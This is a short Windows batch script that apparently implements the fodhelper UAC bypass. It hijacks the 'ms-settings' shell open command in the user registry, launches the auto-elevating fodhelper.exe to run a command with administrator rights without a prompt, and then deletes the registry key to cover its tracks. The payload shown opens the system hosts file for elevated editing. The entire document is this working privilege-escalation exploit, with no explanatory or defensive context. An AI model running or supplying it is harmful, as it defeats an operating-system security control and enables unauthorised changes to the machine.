@echo off
set "cmdline=cmd.exe /c notepad %SystemRoot%\System32\drivers\etc\hosts"
reg add "HKCU\Software\Classes\ms-settings\shell\open\command" /ve /d "%cmdline%" /f >nul
reg add "HKCU\Software\Classes\ms-settings\shell\open\command" /v DelegateExecute /t REG_SZ /d "" /f >nul
start "" fodhelper.exe
timeout /t 3 >nul
reg delete "HKCU\Software\Classes\ms-settings" /f >nul
